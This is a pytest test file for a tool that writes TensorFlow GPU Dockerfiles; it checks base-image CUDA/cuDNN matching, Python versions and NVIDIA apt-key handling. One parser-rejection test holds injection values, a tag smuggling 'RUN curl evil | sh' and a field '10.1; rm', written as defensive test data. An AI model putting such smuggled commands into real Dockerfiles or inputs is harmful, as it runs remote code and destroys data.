"""--format dockerfile: the base image carries the stack's CUDA/cuDNN (per constraints/docker.toml), plus the pip plan.

Expected values come from the sources recorded in docker.toml: TensorFlow's gpu.Dockerfile (2.3: CUDA 10.1 and
cuDNN 7.6.4; 1.15: CUDA 10.0, cuDNN 7.6.2; 2.5-2.11: CUDA 11.2, cuDNN 8.1.0) and NVIDIA's container-images
repository (which tags exist, which cuDNN each carries).
"""

from __future__ import annotations

import re
import shlex
import sys
from pathlib import Path

import pytest
from packaging.requirements import Requirement
from packaging.version import Version

if sys.version_info >= (3, 11):
    import tomllib
else:  # pragma: no cover
    import tomli as tomllib

from stackresolve.knowledge.fields import KnowledgeError
from stackresolve.knowledge.install_facts import parse_docker
from stackresolve.knowledge.loader import constraints_dir, knowledge
from stackresolve.resolve import resolve
from stackresolve.request.parse import Flags, request_from_flags

from plan_reading import base_record, from_image, python_run_by, requirement_lines


def render_dockerfile(resolution, kb, **options):
    """The dockerfile plan as `stackresolve plan --format dockerfile` prints it."""
    from stackresolve.formats.render import render_plan
    from stackresolve.formats import PlanOptions

    return render_plan("dockerfile", resolution, kb, PlanOptions(**options))



def docker_doc() -> dict:
    return tomllib.loads((Path(constraints_dir()) / "docker.toml").read_text(encoding="utf-8"))


@pytest.fixture(scope="module")
def images():
    return parse_docker(docker_doc())



def plan(kb, **flags):
    resolution = resolve(kb, request_from_flags(kb, Flags(**flags), None))
    return resolution, render_dockerfile(resolution, kb)


# -- the data ------------------------------------------------------------------------------------------
def test_docker_data_parses_with_sources(images):
    tf_images, cuda_images = images.tf_images, images.cuda_images
    assert tf_images and cuda_images and images.ubuntu_pythons
    assert all(r.source.strip() for r in (*tf_images, *cuda_images))


def test_one_tensorflow_image_per_line_from_1_13_to_2_11(images):
    lines = {r.line for r in images.tf_images}
    expected = {"1.13", "1.14", "1.15"} | {f"2.{m}" for m in range(0, 12)}
    assert expected <= lines


@pytest.mark.parametrize("version, cuda, cudnn", [
    ("1.15.0", "10.0", "7.6.2.24"),  # gpu.Dockerfile@v1.15.0: ARG CUDA=10.0, ARG CUDNN=7.6.2.24-1
    ("2.3.0", "10.1", "7.6.4.38"),   # gpu.Dockerfile@v2.3.0: ARG CUDA=10.1, ARG CUDNN=7.6.4.38-1
    ("2.9.0", "11.2", "8.1.0.77"),   # gpu.Dockerfile@v2.9.0: ARG CUDA=11.2, ARG CUDNN=8.1.0.77-1
])
def test_tensorflow_images_record_the_dockerfile_values(images, version, cuda, cudnn):
    record = next(r for r in images.tf_images if r.version == version)
    assert (record.cuda, record.cudnn) == (cuda, cudnn)


def test_python3_tags_of_old_images(images):
    # tensorflow/tensorflow#41153: up to 2.1.0 the plain "-gpu" tag is Python 2.7; Python 3 is "-gpu-py3".
    for record in images.tf_images:
        if Version(record.version) <= Version("2.1.0"):
            assert record.tag.endswith("-gpu-py3"), record.tag


def test_tensorflow_images_agree_with_the_tested_build_tables(images):
    """Two independent sources: the image's gpu.Dockerfile and TensorFlow's tested-build table for Linux."""
    base = knowledge()
    for record in images.tf_images:
        build = base.tested_build(record.line, "linux", True)
        if build is None:
            continue
        assert record.cuda == build.cuda, record
        wanted = Version(build.cudnn)
        assert Version(record.cudnn).major == wanted.major and Version(record.cudnn) >= wanted, record


def test_deleted_nvidia_tags_are_marked_unpullable(images):
    by_tag = {r.tag: r for r in images.cuda_images}
    # NVIDIA deleted every CUDA 10.x tag in 2023; 11.2.2 is listed as still existing (unsupported-tags.md).
    assert by_tag["10.0-cudnn7-runtime-ubuntu18.04"].pullable is False
    assert by_tag["11.2.2-cudnn8-runtime-ubuntu20.04"].pullable is True
    assert by_tag["11.2.2-cudnn8-runtime-ubuntu20.04"].cudnn == "8.1.1.33"
    assert by_tag["11.8.0-cudnn8-runtime-ubuntu22.04"].cudnn.startswith("8.")
    assert by_tag["12.3.2-cudnn9-runtime-ubuntu22.04"].cudnn.startswith("9.")


@pytest.mark.parametrize("field, value", [
    ("tag", "2.3.0-gpu\nRUN curl evil | sh"),
    ("tag", "2.3.0 gpu"),
    ("cuda", "10.1; rm"),
    ("source", ""),
])
def test_parser_rejects_malformed_records(field, value):
    doc = docker_doc()
    doc["tf_image"][0] = {**doc["tf_image"][0], field: value}
    with pytest.raises(KnowledgeError):
        parse_docker(doc)


# -- the plans ---------------------------------------------------------------------------------------------
def test_tf_2_3_gpu_uses_tensorflows_own_image(kb):
    resolution, text = plan(kb, tf="2.3", os="linux", gpu="GTX 1080")
    stack = resolution.stack
    assert stack.cuda.version == "10.1"
    image = from_image(text)
    assert image.startswith("tensorflow/tensorflow:2.3.")
    record = base_record(kb, image)
    assert record.cuda == "10.1" and Version(record.cudnn).major == 7
    # the image's python3 is 3.6; the stack's Python comes from Ubuntu 18.04's archive into a venv
    assert python_run_by(kb, text) == stack.python.recommended
    if record.python == stack.python.recommended:
        assert "pip uninstall -y tensorflow tensorflow-gpu" in text
    assert "docker run --gpus all" in text


def test_tf_1_15_gpu_image_is_the_python3_tag(kb):
    resolution, text = plan(kb, tf="1.15", os="linux", gpu="GTX 1080")
    assert from_image(text) == "tensorflow/tensorflow:1.15.0-gpu-py3"
    assert "tf.test.is_gpu_available()" in text


def test_and_cuda_stack_uses_a_plain_python_image(kb):
    resolution, text = plan(kb, tf="2.15", os="linux", gpu="RTX 3090")
    stack = resolution.stack
    assert stack.framework.extras == ("and-cuda",)
    assert from_image(text) == f"python:{stack.python.recommended}-slim"
    assert "[and-cuda]==2.15." in text


def test_tf_2_12_uses_nvidias_cuda_11_8_image(kb):
    resolution, text = plan(kb, tf="2.12", os="linux", gpu="RTX 3090")
    stack = resolution.stack
    if stack.cuda.delivery != "system":  # pragma: no cover - 2.12 has no and-cuda extra in TensorFlow's metadata
        pytest.skip("2.12 resolved to an and-cuda stack")
    image = from_image(text)
    assert image.startswith(f"nvidia/cuda:{stack.cuda.release[:4]}")
    record = base_record(kb, image)
    assert record.cuda == stack.cuda.version == "11.8"
    assert record.pullable
    assert "-m venv /opt/venv" in text


def test_cpu_stack_uses_python_slim(kb):
    resolution, text = plan(kb, tf="2.3", os="linux", cpu=True)
    assert from_image(text) == f"python:{resolution.stack.python.recommended}-slim"
    assert "--gpus" not in text


def test_windows_stack_gets_no_dockerfile(kb):
    from stackresolve.formats.render import FormatRefused

    with pytest.raises(FormatRefused, match="containers run Linux") as refused:
        plan(kb, tf="2.3", os="windows", gpu="GTX 1080")
    assert "powershell" in refused.value.usable and "dockerfile" not in refused.value.usable


def test_every_linux_gpu_line_gets_a_base_matching_its_cuda_and_cudnn(kb):
    """For every release line with a Linux GPU build: the FROM image carries the stack's CUDA and a cuDNN TensorFlow
    loads (same major, not older than the one it was built with), or the plan says why it has none."""
    checked = 0
    for line in kb.lines:
        if not line.gpu_package_linux or kb.tested_build(line.version, "linux", True) is None:
            continue
        from stackresolve.formats.render import FormatRefused

        try:
            resolution, text = plan(kb, tf=line.version, os="linux", gpu="GTX 1080")
        except FormatRefused as refused:
            assert "No Dockerfile" in str(refused)
            continue
        stack = resolution.stack
        if stack is None or not stack.cuda:
            continue
        image = from_image(text)
        if stack.cuda.delivery != "system":
            assert image.startswith("python:")
            continue
        record = base_record(kb, image)
        assert record is not None, image
        assert record.cuda == stack.cuda.version, (line.version, image)
        built = Version(stack.cudnn.compiled)
        assert Version(record.cudnn).major == built.major and Version(record.cudnn) >= built, (line.version, image)
        checked += 1
    assert checked >= 5


def last_instruction(text: str) -> str:
    """The last Dockerfile instruction, continuation lines joined."""
    joined = re.sub(r"\\\n", " ", text)
    return [l for l in joined.splitlines() if l and not l.startswith("#")][-1]


def test_pip_lines_are_quoted_requirements(kb):
    resolution, text = plan(kb, tf="2.3", os="linux", gpu="GTX 1080")
    words = shlex.split(last_instruction(text))
    installed = words[len(words) - words[::-1].index("--no-cache-dir"):]
    assert installed == requirement_lines(resolution)
    for word in installed:
        Requirement(word)


# -- the Python each Dockerfile runs, and NVIDIA's key rotation ------------------------------------------------
@pytest.fixture(scope="module")
def dockerfiles(kb):
    return list(linux_gpu_dockerfiles(kb))


def linux_gpu_dockerfiles(kb):
    from stackresolve.formats.render import FormatRefused

    for line in kb.lines:
        for gpu in ("Tesla K80", "GTX 1080", "RTX 3090"):
            for python in (None, "3.6", "3.8"):
                try:
                    resolution, text = plan(kb, tf=line.version, os="linux", gpu=gpu, python=python)
                except FormatRefused:
                    continue
                except Exception as exc:  # an --python the line has no wheels for is bad input
                    if "InputError" in type(exc).__name__:
                        continue
                    raise
                if resolution.stack is not None:
                    yield resolution, text


def test_every_dockerfile_runs_the_python_its_header_states(kb, dockerfiles):
    checked = 0
    for resolution, text in dockerfiles:
        python = resolution.stack.python.recommended
        assert f", Python {python}," in text.splitlines()[1], text.splitlines()[1]
        assert python_run_by(kb, text) == python, (resolution.stack.summary, from_image(text))
        checked += 1
    assert checked > 60


# TensorFlow's GitHub releases: every recorded image up to 2.8.0 (2022-02-02) was built before NVIDIA rotated its
# CUDA repository key on 2022-04-27 (NVIDIA's notice; tensorflow/tensorflow#56085 reports 2.8.0's image failing).
PRE_ROTATION_TAGS = {"1.13.1-gpu-py3", "1.14.0-gpu-py3", "1.15.0-gpu-py3", "2.0.0-gpu-py3", "2.1.0-gpu-py3",
                     "2.2.0-gpu", "2.3.0-gpu", "2.4.0-gpu", "2.5.0-gpu", "2.6.0-gpu", "2.7.0-gpu", "2.8.0-gpu"}


def test_images_from_before_the_key_rotation_are_marked(images):
    retired = {r.tag for r in images.tf_images if r.apt_key == "retired"}
    assert retired == PRE_ROTATION_TAGS
    assert images.key_rotation.error == "NO_PUBKEY A4B469963BF863CC"


def test_the_new_key_is_installed_before_the_first_apt_get_update(kb, dockerfiles):
    seen = set()
    for resolution, text in dockerfiles:
        record = base_record(kb, from_image(text))
        if record is None or "RUN apt-get update" not in text:
            continue
        first_update = text.index("RUN apt-get update")
        if record.apt_key == "current":
            continue
        seen.add(record.tag)
        key = re.search(r"^ADD https://developer\.download\.nvidia\.com/compute/cuda/repos/(ubuntu\d{4})/x86_64/"
                        r"(cuda-keyring_[0-9.]+-1_all\.deb|3bf863cc\.pub) ", text, re.M)
        assert key is not None and key.start() < first_update, record.tag
        assert key.group(1) == "ubuntu" + record.ubuntu.replace(".", "")
        if key.group(2).startswith("cuda-keyring"):
            # the keyring package brings its own source list: the image's old one would conflict with it
            assert text.index("rm -f /etc/apt/sources.list.d/cuda.list") < first_update
    assert seen & PRE_ROTATION_TAGS
